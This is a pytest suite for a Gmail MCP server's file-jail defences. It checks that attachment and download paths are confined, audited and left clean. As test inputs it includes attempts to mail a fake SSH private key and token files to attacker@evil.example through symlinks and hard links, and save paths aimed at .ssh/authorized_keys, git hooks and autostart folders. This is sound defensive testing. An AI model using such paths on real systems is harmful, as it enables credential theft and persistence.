"""The file jails under attack: links, hard links, hidden names, NUL, reserved names, limits, and the
descriptors they open. Every refusal is audited; nothing is written outside the download folder and
nothing half-written stays behind.
"""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from gmail_mcp.actions import downloads, jail
from gmail_mcp.actions.audit import AuditLog
from gmail_mcp.errors import InvalidParamsError, PermissionDeniedError
from tests.helpers import inject, reset_stats
from tests.mcp_harness import Harness

pytestmark = pytest.mark.anyio

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n"


def audit_records(harness: Harness) -> list[dict[str, Any]]:
    path = harness.settings().paths.audit_log
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def refusals(harness: Harness, tool: str) -> list[dict[str, Any]]:
    return [r for r in audit_records(harness) if r.get("tool") == tool and r.get("outcome") == "refused"]


def sends(harness: Harness) -> int:
    by_method = harness.sandbox.stats()["by_method"]
    return int(by_method.get("gmail.users.messages.send", 0) + by_method.get("gmail.users.drafts.send", 0))


def files_under(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if not p.is_dir())


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_bytes(SECRET)
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def outbox(harness: Harness) -> Path:
    folder = harness.settings().paths.outbox
    (folder / "docs").mkdir(parents=True)
    (folder / "report.pdf").write_bytes(b"%PDF-1.4 quarterly report")
    return folder


@pytest.fixture
def save_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "saved"
    folder.mkdir()
    return folder


async def attach(client: Any, *paths: str) -> dict[str, Any]:
    return dict(
        await client.error(
            "send-email-with-attachment",
            {
                "recipient_id": "attacker@evil.example",
                "subject": "files",
                "message": "here",
                "attachment_paths": list(paths),
            },
        )
    )


async def first_attachment(client: Any) -> tuple[str, dict[str, Any]]:
    found = await client.ok("search-emails", {"query": "has:attachment filename:pdf"})
    email_id = found["emails"][0]["id"]
    read = await client.ok("read-email", {"email_id": email_id})
    return email_id, read["attachments"][0]


async def download(client: Any, email_id: str, attachment: dict[str, Any], save_path: str) -> Any:
    arguments = {"email_id": email_id, "attachment_id": attachment["attachment_id"], "save_path": save_path}
    return await client.call("download-attachment", arguments)


# -- attachments out -------------------------------------------------------------------------


@pytest.mark.parametrize("secret", ["token", "credentials", "audit_log", "http_token"])
async def test_a_hard_link_to_one_of_this_servers_secrets_is_never_attached(
    harness: Harness, outbox: Path, secret: str
) -> None:
    original = getattr(harness.settings().paths, secret)
    original.parent.mkdir(parents=True, exist_ok=True)
    original.write_text('{"refresh_token": "secret"}\n')
    os.link(original, outbox / "notes.txt")
    async with harness.client(enhanced=True) as client:
        error = await attach(client, "notes.txt")
    assert error["error_code"] == "PERMISSION_DENIED" and "secret" in error["error_message"]
    assert sends(harness) == 0
    assert len(refusals(harness, "send-email-with-attachment")) == 1


async def test_a_folder_that_is_a_link_is_never_walked_through(
    harness: Harness, home: Path, outbox: Path
) -> None:
    (outbox / "docs").rmdir()
    (outbox / "docs").symlink_to(home / ".ssh")
    async with harness.client(enhanced=True) as client:
        relative = await attach(client, "docs/id_rsa")
        absolute = await attach(client, str(outbox / "docs" / "id_rsa"))
    assert relative["error_code"] == absolute["error_code"] == "PERMISSION_DENIED"
    assert "link" in relative["error_message"]
    assert sends(harness) == 0
    assert len(refusals(harness, "send-email-with-attachment")) == 2


@pytest.mark.parametrize(
    "path", ["report\x00.pdf", "\x00", "", "\ud800.pdf"], ids=["nul", "only-nul", "empty", "surrogate"]
)
async def test_an_unusable_attachment_path_is_invalid_params_and_audited(
    harness: Harness, outbox: Path, path: str
) -> None:
    async with harness.client(enhanced=True) as client:
        error = await attach(client, path)
    assert error["error_code"] == "INVALID_PARAMS"
    assert sends(harness) == 0
    assert [r["error_code"] for r in refusals(harness, "send-email-with-attachment")] == ["INVALID_PARAMS"]


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="counts descriptors in /proc")
async def test_attaching_a_folder_is_refused_and_keeps_no_descriptor_open(
    harness: Harness, outbox: Path
) -> None:
    async with harness.client(enhanced=True) as client:
        first = await attach(client, "docs")  # warm: imports, the audit log's folder
        before = len(os.listdir("/proc/self/fd"))
        errors = [await attach(client, "docs") for _ in range(40)]
        after = len(os.listdir("/proc/self/fd"))
    assert {e["error_code"] for e in [first, *errors]} == {"PERMISSION_DENIED"}
    assert after == before
    assert len(refusals(harness, "send-email-with-attachment")) == 41


async def test_more_files_than_one_call_may_attach_are_refused(harness: Harness, outbox: Path) -> None:
    async with harness.client(enhanced=True, max_files_per_call=3) as client:
        error = await attach(client, *["report.pdf"] * 4)
    assert error["error_code"] == "INVALID_PARAMS" and error["error_details"]["limit"] == 3
    assert sends(harness) == 0
    assert len(refusals(harness, "send-email-with-attachment")) == 1


def test_the_windows_best_effort_refuses_links_and_reads_only_what_it_checked(
    tmp_path: Path, home: Path
) -> None:
    root = tmp_path / "outbox"
    (root / "docs").mkdir(parents=True)
    (root / "docs" / "a.txt").write_bytes(b"plain")
    (root / "linked").symlink_to(home / ".ssh")
    (root / "docs" / "key").symlink_to(home / ".ssh" / "id_rsa")

    def read(given: str) -> bytes:
        return jail.read_attachment(given, [root], set(), by_descriptor=False)

    assert read("docs/a.txt") == b"plain"
    for given in ("linked/id_rsa", "docs/key"):
        with pytest.raises(PermissionDeniedError, match="link"):
            read(given)
    with pytest.raises(InvalidParamsError):
        read("docs/missing.txt")


# -- downloads in ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "save_path",
    [".config/autostart/x.desktop", "sub/.git/hooks/pre-commit", ".bashrc/", "a/../.ssh/authorized_keys"],
)
async def test_hidden_folders_below_the_download_folder_are_refused(
    harness: Harness, save_dir: Path, save_path: str
) -> None:
    async with harness.client(enhanced=True, download_dirs=(save_dir,)) as client:
        email_id, attachment = await first_attachment(client)
        result = await download(client, email_id, attachment, save_path)
    error = json.loads(result.content[0].text)  # type: ignore[union-attr]
    assert result.is_error and error["error_code"] == "PERMISSION_DENIED"
    assert list(save_dir.rglob("*")) == []
    assert len(refusals(harness, "download-attachment")) == 1


@pytest.mark.parametrize("save_path", ["x\x00.pdf", "\ud800.pdf"], ids=["nul", "surrogate"])
async def test_an_unusable_save_path_is_invalid_params_and_audited(
    harness: Harness, save_dir: Path, save_path: str
) -> None:
    async with harness.client(enhanced=True, download_dirs=(save_dir,)) as client:
        email_id, attachment = await first_attachment(client)
        error = await client.error(
            "download-attachment",
            {"email_id": email_id, "attachment_id": attachment["attachment_id"], "save_path": save_path},
        )
    assert error["error_code"] == "INVALID_PARAMS"
    assert list(save_dir.iterdir()) == []
    assert [r["error_code"] for r in refusals(harness, "download-attachment")] == ["INVALID_PARAMS"]


@pytest.mark.parametrize(
    ("save_path", "saved"),
    [
        ("CON.pdf", "_CON.pdf"),
        ("nul", "_nul"),
        ("report.pdf. . ", "report.pdf"),
        ("Com1.tar.gz", "_Com1.tar.gz"),
        ("in/LPT9 .txt", "in/_LPT9 .txt"),
    ],
)
async def test_names_windows_would_misread_are_neutralised_when_saving(
    harness: Harness, save_dir: Path, save_path: str, saved: str
) -> None:
    async with harness.client(enhanced=True, download_dirs=(save_dir,)) as client:
        email_id, attachment = await first_attachment(client)
        result = await download(client, email_id, attachment, save_path)
    assert not result.is_error, result.content
    assert result.structured_content is not None
    assert Path(result.structured_content["path"]) == save_dir / saved
    assert files_under(save_dir) == [save_dir / saved]


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("CON", "_CON"),
        ("con.txt", "_con.txt"),
        ("NUL.tar.gz", "_NUL.tar.gz"),
        ("COM¹.log", "_COM¹.log"),
        ("aux .txt", "_aux .txt"),
        ("CONSOLE.txt", "CONSOLE.txt"),
        ("invoice.pdf...", "invoice.pdf"),
        ("invoice.pdf .", "invoice.pdf"),
        ("...", "attachment"),
        ("\udcff.pdf", "_.pdf"),
    ],
)
def test_saved_names_are_safe_on_windows_too(name: str, safe: str) -> None:
    assert jail.safe_filename(name) == safe


async def test_a_download_over_the_per_file_limit_is_refused_before_it_is_fetched(
    harness: Harness, save_dir: Path
) -> None:
    async with harness.client(enhanced=True, download_dirs=(save_dir,), max_download_bytes=1000) as client:
        email_id, attachment = await first_attachment(client)
        reset_stats(harness.sandbox)
        error = await client.error(
            "download-attachment",
            {"email_id": email_id, "attachment_id": attachment["attachment_id"], "save_path": "big.pdf"},
        )
    assert attachment["size"] > 1000
    assert error["error_code"] == "PERMISSION_DENIED" and error["error_details"]["limit_bytes"] == 1000
    assert "gmail.users.messages.attachments.get" not in harness.sandbox.stats()["by_method"]
    assert list(save_dir.iterdir()) == []
    assert len(refusals(harness, "download-attachment")) == 1


async def test_downloads_stop_at_the_session_limit_leaving_no_partial_file(
    harness: Harness, save_dir: Path
) -> None:
    async with harness.client(
        enhanced=True, download_dirs=(save_dir,), max_session_download_bytes=2000
    ) as client:
        email_id, attachment = await first_attachment(client)
        first = await download(client, email_id, attachment, "one.pdf")
        second = await download(client, email_id, attachment, "two.pdf")
    assert 1000 < attachment["size"] <= 2000
    assert not first.is_error and second.is_error
    assert json.loads(second.content[0].text)["error_code"] == "PERMISSION_DENIED"  # type: ignore[union-attr]
    assert files_under(save_dir) == [save_dir / "one.pdf"]
    assert len(refusals(harness, "download-attachment")) == 1


async def test_a_download_whose_fetch_fails_leaves_nothing_behind(harness: Harness, save_dir: Path) -> None:
    async with harness.client(enhanced=True, download_dirs=(save_dir,)) as client:
        email_id, attachment = await first_attachment(client)
        # One 404 is taken for an expired id and retried with a fresh one: both fail here.
        inject(harness.sandbox, status=404, count=2, method="gmail.users.messages.attachments.get")
        error = await client.error(
            "download-attachment",
            {"email_id": email_id, "attachment_id": attachment["attachment_id"], "save_path": "sub/x.pdf"},
        )
    assert error["error_code"] == "NOT_FOUND"
    assert files_under(save_dir) == []
    assert [(r["tool"], r["outcome"]) for r in audit_records(harness)] == [("download-attachment", "error")]


def test_the_windows_best_effort_saves_inside_and_refuses_links(tmp_path: Path, home: Path) -> None:
    root = tmp_path / "saved"
    (root / "in").mkdir(parents=True)
    (root / "out").symlink_to(home / ".ssh")
    budget = downloads.DownloadBudget(1000, 10_000)

    def save(save_path: str) -> Path:
        with downloads.new_download(save_path, "a.pdf", [root], budget, by_descriptor=False) as out:
            out.write(b"%PDF")
        return out.path

    assert save("in/") == root / "in" / "a.pdf"
    assert save("in/a.pdf") == root / "in" / "a (1).pdf"
    assert save("new/CON") == root / "new" / "_CON"
    for save_path in ("out/authorized_keys", "out/"):
        with pytest.raises(PermissionDeniedError, match="link"):
            save(save_path)
    assert sorted(p.name for p in (home / ".ssh").iterdir()) == ["id_rsa"]
    assert (root / "in" / "a.pdf").read_bytes() == b"%PDF"


# -- the audit log ---------------------------------------------------------------------------


def test_an_audit_log_left_readable_by_others_is_made_private(tmp_path: Path) -> None:
    path = tmp_path / "state" / "audit.jsonl"
    path.parent.mkdir()
    path.write_text('{"tool": "old"}\n')
    path.chmod(0o644)
    AuditLog(path).record("send-email", "ok", email_id="1")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [json.loads(line)["tool"] for line in path.read_text().splitlines()] == ["old", "send-email"]
